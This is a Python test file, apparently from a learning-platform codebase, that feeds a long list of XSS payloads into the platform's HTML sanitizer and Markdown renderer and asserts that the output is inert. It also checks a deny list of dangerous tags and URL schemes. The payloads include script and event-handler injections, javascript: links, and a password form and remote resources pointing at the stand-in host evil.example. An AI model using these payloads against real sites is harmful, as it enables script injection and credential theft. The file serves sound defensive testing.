"""What authors write becomes clean HTML: payloads do nothing, shapes are ours."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lms import text
from lms.text import ALLOWED, CLASSES, SCHEMES, clean, count_words, plain_text, render_line, render_markdown

PAYLOADS = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></ScRiPt>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>", "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>", "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href='vbscript:msgbox(1)'>x</a>", "[x](javascript:alert(1))", "[x](  javascript:alert(1))",
    "[x](java\tscript:alert(1))", "![x](javascript:alert(1))", "![x](https://evil.example/pixel.png)", "![x](//evil.example/pixel.png)",
    "[x]: javascript:alert(1)\n\n[x]", "<div style='background:url(https://evil.example)'>x</div>", "<p class='hero button' onclick=alert(1)>x</p>",
    "<form action=//evil.example><input name=password><button>x</button></form>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//evil.example>", "<object data=//evil.example></object>", "<embed src=//evil.example>", "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<details open ontoggle=alert(1)>x</details>",
    "<style>@import '//evil.example'</style>", "<template><script>alert(1)</script></template>", "<a id=location name=forms>x</a>", "<video src=x onerror=alert(1)>",
    "<xss style=animation-name:x onanimationstart=alert(1)>", "``` <script>\nalert(1)\n```", "<b>unclosed", "&lt;script&gt;alert(1)&lt;/script&gt;",
    '!!! note "<img src=x onerror=alert(1)>"\n    x', '!!! note" onclick="alert(1)\n    x', '??? solution "<script>alert(1)</script>"\n    x',
    "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |", "x[^1]\n\n[^1]: <script>alert(1)</script>", "Term\n:   <script>alert(1)</script>",
    "## <img src=x onerror=alert(1)>", "- [ ] <script>alert(1)</script>", "<<script>script>alert(1)<</script>/script>", "\x00<script>alert(1)</script>",
    '<a href="https://ok.example" onmouseover="alert(1)">x</a>', "<img src='/media/x.svg' srcset='//evil.example/x 2x'>",
)  # fmt: skip


class Inspector(HTMLParser):
    """Collects every tag and attribute and complains about what the table does not allow."""

    def __init__(self):
        super().__init__()
        self.bad = []

    def handle_starttag(self, tag, attributes):
        if tag not in ALLOWED:
            self.bad.append(tag)
        for name, value in attributes:
            if name == "class":
                self.bad += [word for word in value.split() if word not in CLASSES.get(tag, ())]
            elif name == "rel":
                assert value == "noopener noreferrer"
            elif name not in ALLOWED.get(tag, ()):
                self.bad.append(f"{tag}.{name}")
            elif name == "src" and not (value.startswith("/") and not value.startswith("//")):
                self.bad.append(f"src={value}")
            elif (
                name == "href"
                and ":" in value.split("/")[0]
                and value.split(":")[0].strip().lower() not in SCHEMES
                and not value.startswith("#")
            ):
                self.bad.append(f"href={value}")

    def handle_comment(self, data):
        self.bad.append("comment")


def inspect(html):
    """Return what the table does not allow in some HTML."""
    inspector = Inspector()
    inspector.feed(html)
    return inspector.bad


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("render", [render_markdown, render_line, clean])
def test_payloads_do_nothing(payload, render):
    html = render(payload)
    assert inspect(html) == []


pieces = [*"<>/=\"'`![]()*_#|-:&; \n\tabijs", "script", "onerror", "javascript:", "img", "src", "href"]


@given(st.lists(st.sampled_from(pieces), max_size=80).map("".join))
def test_whatever_is_written_is_clean(source):
    assert inspect(render_markdown(source)) == []
    assert inspect(render_line(source)) == []


@given(st.text(max_size=120))
def test_plain_lines_say_what_they_said(source):
    words = [word for word in source.split() if word.isalnum()]
    shown = plain_text(render_line(" ".join(words)))
    assert shown.split() == words


def test_each_gate_alone_would_stop_a_script():
    assert "<script" not in text._bleach.clean(PAYLOADS[0])
    assert "<script" not in text.nh3.clean(PAYLOADS[0], tags=set(ALLOWED))
    assert "<script" not in render_markdown(PAYLOADS[0])


def test_the_table_itself_allows_nothing_that_acts():
    """Both gates read one table: a mistake in it would open both."""
    assert not set(ALLOWED) & {
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "button",
        "base",
        "meta",
        "link",
        "svg",
        "math",
    }
    names = {name for allowed in ALLOWED.values() for name in allowed}
    assert not [name for name in names if name.startswith("on") or name in {"style", "class", "srcdoc", "action", "formaction", "name"}]
    assert [tag for tag, allowed in ALLOWED.items() if "srcset" in allowed] == ["source"]
    assert not set(SCHEMES) & {"javascript", "data", "vbscript"}


@pytest.mark.parametrize(
    "address", ["//evil.example/x", "https://evil.example/x", "/a.png, //evil.example/x 2w", "/\\evil.example/x", "data:,x"]
)
@pytest.mark.parametrize("where", ["source srcset", "source src", "video poster", "video src", "audio src", "track src", "img src"])
def test_nothing_is_fetched_from_elsewhere(where, address):
    tag, name = where.split()
    html = clean(f'<{tag} {name}="{address}">')
    assert "evil" not in html
    assert "data:" not in html


def test_shapes():
    html = render_markdown(
        '## Satu\n\n![Peta](figures/peta.svg "Peta jalan")\n\n!!! task "Kerjakan"\n    Isi.\n\n??? solution "Lihat"\n    Ini.\n\n| a |\n|---|\n| 1 |\n\n- [x] sudah\n',
        {"figures/peta.svg": "/media/1.svg"},
    )
    for part in (
        '<h2 id="bagian-satu">', '<figure><img alt="Peta"', 'src="/media/1.svg"', "<figcaption>Peta jalan</figcaption>", '<div class="box task">',
        '<p class="box-title">Kerjakan</p>', '<details class="box solution">', '<div class="table" tabindex="0"><table>', '<th scope="col">', "task-list-item done",
    ):  # fmt: skip
        assert part in html


def test_words():
    assert count_words("Masing-masing warga, 3 orang; rumah-rumah.") == 5
    assert count_words("  \n —  ") == 0
